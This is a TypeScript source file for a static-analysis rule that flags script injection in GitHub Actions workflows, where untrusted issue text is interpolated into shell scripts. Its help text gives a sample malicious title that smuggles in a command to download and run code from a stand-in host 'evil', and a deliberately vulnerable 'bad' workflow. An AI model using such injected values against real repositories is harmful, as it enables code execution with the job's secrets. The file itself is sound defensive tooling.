import type { WorkflowRule } from '../workflow';
import { valueAt } from '../../../values/value';
import { expressionsBetween } from '../expressions';
import { untrustedContext } from '../untrusted-context';
import { stepsOf } from '../workflow';

export const scriptInjection: WorkflowRule = {
  id: 'workflow/script-injection',
  grade: { cwe: [78, 94], severity: 8.8, confidence: 'high' },
  description: 'Text that anybody can write becomes part of a script.',
  help: 'The expression is replaced before the shell reads the script, so a title such as `"; curl evil | sh; "` runs with the token and the secrets of the job. Hand it over in `env` and use `"$TITLE"` in the script.',
  bad: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.event.issue.title }}"
`,
  good: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$TITLE"
        env:
          TITLE: \${{ github.event.issue.title }}
`,
  *check(workflow) {
    for (const { run, uses, value } of stepsOf(workflow)) {
      const isScript = uses?.text.startsWith('actions/github-script@') ?? false;
      for (const script of [run?.value, isScript ? valueAt(value, 'with', 'script') : undefined]) {
        for (const expression of script === undefined ? [] : expressionsBetween(workflow.text, script)) {
          const context = untrustedContext(expression.inner);
          if (context !== undefined) {
            yield { at: expression, message: `Whoever fills ${context} can run commands here.` };
          }
        }
      }
    }
  },
};
